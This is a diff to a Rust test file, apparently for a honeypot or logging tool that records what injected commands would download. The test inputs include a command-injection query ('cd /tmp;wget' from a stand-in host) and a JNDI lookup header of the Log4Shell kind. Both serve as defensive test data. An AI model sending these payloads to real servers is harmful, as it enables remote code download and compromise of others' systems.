@@ -115,6 +115,10 @@ fn what_injected_commands_would_fetch_is_recorded_and_the_request_whole() {
             assert_eq!(outcome.the_event("request").fields["status"], status, "{request}");
         }
     }
+    // Blanks in a path make it no request to Apache; what it names is recorded all the same.
+    let broken = ask("http", APACHE, "GET /board.cgi?cmd=cd /tmp;wget http://192.0.2.9/x HTTP/1.1\r\nHost: x\r\n\r\n");
+    assert_eq!(answers(&broken)[0].0, 400);
+    assert_eq!(broken.the_event("download").fields["url"], "http://192.0.2.9/x");
     let lookup = ask("http", "", "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://192.0.2.9:1389/a}\r\n\r\n");
     assert_eq!(lookup.the_event("download").fields["tool"], "jndi");
     assert!(ask("http", "", "GET /?see=http://192.0.2.9/ HTTP/1.1\r\nHost: x\r\n\r\n").downloads.is_empty());
